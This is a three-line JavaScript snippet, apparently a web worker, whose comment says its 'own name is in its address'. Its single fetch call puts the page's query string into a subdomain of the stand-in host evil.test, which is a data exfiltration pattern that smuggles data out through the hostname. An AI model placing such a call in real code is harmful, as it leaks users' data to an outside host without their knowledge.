// SPDX-License-Identifier: EUPL-1.2
// A worker's errand: its own name is in its address.
fetch(`http://${location.search.slice(1)}.evil.test/`, { mode: "no-cors" });
